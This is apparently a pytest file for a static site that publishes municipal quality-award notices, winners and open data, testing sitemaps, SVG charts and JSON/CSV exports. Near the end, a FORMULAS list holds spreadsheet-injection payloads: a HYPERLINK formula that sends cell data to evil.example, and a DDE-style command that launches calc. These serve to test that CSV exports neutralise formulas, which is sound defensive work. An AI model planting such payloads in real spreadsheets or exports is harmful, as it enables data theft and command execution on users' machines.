"""Machine-readable outputs: sitemap, statistics charts, open data, withdrawn.json."""

import csv
import io
import json
import re
import xml.etree.ElementTree as ET

import pytest
from sitebuild import FIXTURE_CONTENT, PUBLISHCONF, build

SITEMAP = "{http://www.sitemaps.org/schemas/sitemap/0.9}"
SVG = "{http://www.w3.org/2000/svg}"


def sitemap_entries(output) -> list:
    """The <url> entries of every sitemap the index at /sitemap.xml lists."""
    index = ET.parse(output / "sitemap.xml").getroot()
    assert index.tag == f"{SITEMAP}sitemapindex"
    entries = []
    for sitemap in index.findall(f"{SITEMAP}sitemap"):
        root = ET.parse(output / sitemap.findtext(f"{SITEMAP}loc").lstrip("/")).getroot()
        assert root.tag == f"{SITEMAP}urlset"
        entries += root.findall(f"{SITEMAP}url")
    return entries


def test_sitemap_lists_pages_that_exist_and_not_withdrawn_ones(built_site):
    root = sitemap_entries(built_site)
    locations = [entry.findtext(f"{SITEMAP}loc") for entry in root]
    assert len(locations) == len(set(locations))
    for location in locations:
        assert (built_site / location.lstrip("/") / "index.html").is_file(), location
    assert "/notices/41/" in locations and "/winners/91140800MA0000001A/" in locations
    assert "/notices/36/" not in locations  # withdrawn: 410 Gone
    lastmods = {
        entry.findtext(f"{SITEMAP}loc"): entry.findtext(f"{SITEMAP}lastmod") for entry in root
    }
    assert lastmods["/notices/33/"] == "2023-10-10"


def test_statistics_charts_are_well_formed_accessible_svg(built_site):
    html = (built_site / "statistics/index.html").read_text(encoding="utf-8")
    charts = re.findall(r"<svg\b.*?</svg>", html, flags=re.DOTALL)
    assert len(charts) == 6
    for markup in charts:
        svg = ET.fromstring(markup)
        assert svg.tag == f"{SVG}svg" and svg.get("role") == "img"
        title, description = svg.find(f"{SVG}title"), svg.find(f"{SVG}desc")
        assert svg.get("aria-labelledby") == f"{title.get('id')} {description.get('id')}"
        assert title.text and description.text
    by_year = ET.fromstring(charts[0])
    values = [
        text.text for text in by_year.iter(f"{SVG}text") if text.get("class") == "chart-value"
    ]
    assert values == ["3"]  # three awards in 2023 for 示例市市长质量奖
    assert '<th scope="col">获奖数量</th>' in html  # the same numbers, as a table
    complaints = ET.fromstring(charts[5])
    values = [
        text.text for text in complaints.iter(f"{SVG}text") if text.get("class") == "chart-value"
    ]
    assert values == ["3", "2"]  # received in 2025 and 2026 by 示例市市长质量奖
    assert '<th scope="col">办结用时中位数（天）</th>' in html


def test_winners_json(built_site):
    data = json.loads((built_site / "data/winners.json").read_text(encoding="utf-8"))
    assert data["status_as_of"] == "2024-06-12" and data["count"] == 3
    winners = {winner["name"]: winner for winner in data["winners"]}
    revoked = winners["【示例】示例精密机械有限公司"]
    assert revoked["key"] == revoked["credit_code"] == "91140800MA0000001A"
    (award,) = revoked["awards"]
    assert award["status"] == "revoked" and award["status_label"] == "已撤销"
    assert award["citation"] == "2023年度示例市市长质量奖" and award["year"] == 2023
    assert award["revocation"] == {
        "id": 35,
        "date": "2024-03-15",
        "reason": "申报材料弄虚作假",
        "url": "/revocations/35/",
    }
    assert winners["【示例】示例果业集团有限公司"]["awards"][0]["status"] == "expired"
    person = winners["【示例】王示范"]
    assert person["category"] == "individual" and person["credit_code"] == ""
    assert re.fullmatch(r"p-[0-9a-f]{12}", person["key"])
    assert person["awards"][0]["valid_until"] is None and person["awards"][0]["status"] == "valid"


def test_winners_csv_opens_in_excel(built_site):
    raw = (built_site / "data/winners.csv").read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")  # UTF-8 byte order mark
    rows = list(csv.DictReader(io.StringIO(raw.decode("utf-8-sig"))))
    assert len(rows) == 3
    assert {row["status_label"] for row in rows} == {"有效", "已过期", "已撤销"}
    revoked = next(row for row in rows if row["status"] == "revoked")
    assert revoked["revocation_url"] == "/revocations/35/" and revoked["decision_id"] == "34"


def test_notices_json(built_site):
    data = json.loads((built_site / "data/notices.json").read_text(encoding="utf-8"))
    notices = {notice["id"]: notice for notice in data["notices"]}
    assert sorted(notices) == [32, 33, 41]
    open_notice = notices[41]
    assert open_notice["status"] == "open" and open_notice["notice_type"] == "candidates"
    assert open_notice["start_date"] == "2024-06-10" and open_notice["end_date"] == "2024-06-14"
    assert open_notice["entries"][0]["credit_code"] == "91410105MA00000016"
    (attachment,) = notices[33]["attachments"]
    assert attachment["url"].startswith("/attachments/7/") and attachment["size"] == 118


def test_withdrawn_json_tells_the_server_what_is_gone(built_site):
    items = json.loads((built_site / "withdrawn.json").read_text(encoding="utf-8"))
    assert items == [
        {
            "path": "/notices/36/",
            "title": "2023年度示例市市长质量奖候选名单公示",
            "reason": "误将未经评审委员会审定的名单发布，已撤回。",
            "withdrawn_at": "2023-09-02T11:00:00+08:00",
        }
    ]


def test_attachment_is_published_at_its_path(built_site):
    (attachment,) = (built_site / "attachments/7").iterdir()
    assert (
        attachment.read_bytes() == next((FIXTURE_CONTENT / "attachments/7").iterdir()).read_bytes()
    )


def test_publish_settings_make_urls_absolute(tmp_path):
    output = tmp_path / "output"
    finished = build(
        FIXTURE_CONTENT,
        output,
        settings=PUBLISHCONF,
        site_url="https://zlj.example.gov.cn/",
        extra_arguments=("--fatal", "warnings"),  # no warning either
    )
    assert finished.returncode == 0, finished.stderr + finished.stdout
    index = ET.parse(output / "sitemap.xml").getroot()
    first = index.find(f"{SITEMAP}sitemap/{SITEMAP}loc").text
    assert first == "https://zlj.example.gov.cn/sitemap-undated.xml"
    root = ET.parse(output / "sitemap-undated.xml").getroot()
    assert root.find(f"{SITEMAP}url/{SITEMAP}loc").text == "https://zlj.example.gov.cn/"
    robots = (output / "robots.txt").read_text(encoding="ascii").splitlines()
    assert "Sitemap: https://zlj.example.gov.cn/sitemap.xml" in robots
    page = (output / "notices/41/index.html").read_text(encoding="utf-8")
    assert '<meta property="og:url" content="https://zlj.example.gov.cn/notices/41/">' in page
    assert '<link rel="canonical" href="https://zlj.example.gov.cn/notices/41/">' in page
    assert 'href="/notices/"' in page  # links on the site stay root-relative


FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"点击查看")',
    "+1+1",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "  =1+1",
    "\u3000=1+1",
]


@pytest.mark.parametrize("value", [*FORMULAS, "\r=1+1", "\t", "\r", "-"])
def test_a_cell_a_spreadsheet_would_run_gets_an_apostrophe(value):
    from gongshi_site.opendata import spreadsheet_cell

    assert spreadsheet_cell(value) == "'" + value


@pytest.mark.parametrize(
    "value", ["示例市东区", "2024-06-11", "http://x/?a=b", "a=b", "A-1", "", 42, None, "1+1"]
)
def test_other_cells_are_left_as_they_are(value):
    from gongshi_site.opendata import spreadsheet_cell

    assert spreadsheet_cell(value) == value


def test_winners_csv_is_data_not_formulas(content, tmp_path):
    """Every text an editor wrote (names, regions, 文号) that a spreadsheet would run is
    shown as text there; winners.json keeps it as written."""
    from incremental_support import as_json, read, write

    document, body = read(content, "decisions/34.md")
    document = as_json(document)
    for award, formula, behind in zip(document["awards"], FORMULAS[:3], FORMULAS[4:], strict=True):
        award["region"], award["citation"] = formula, behind
    document["awards"][2]["recipient"] = FORMULAS[3]  # the person, revoked by nothing
    document["document_number"] = FORMULAS[2]
    write(content, "decisions/34.md", document, body)
    output = tmp_path / "output"
    finished = build(content, output)
    assert finished.returncode == 0, finished.stderr + finished.stdout
    for name in ("winners.csv", "winners-2023.csv"):  # the whole archive, the year's
        raw = (output / "data" / name).read_bytes().decode("utf-8-sig")
        rows = list(csv.DictReader(io.StringIO(raw)))
        assert sorted(row["region"] for row in rows) == sorted("'" + f for f in FORMULAS[:3])
        assert sorted(row["citation"] for row in rows) == sorted("'" + f for f in FORMULAS[4:])
        assert {row["decision_document_number"] for row in rows} == {"'" + FORMULAS[2]}
        assert "'" + FORMULAS[3] in {row["name"] for row in rows}
        for row in rows:
            for column, value in row.items():
                assert not re.match(r"[=+\-@\t\r]|\s+[=+\-@]", value), (column, value)
    for name in ("winners.json", "winners-2023.json"):
        data = json.loads((output / "data" / name).read_text(encoding="utf-8"))
        assert FORMULAS[3] in {winner["name"] for winner in data["winners"]}
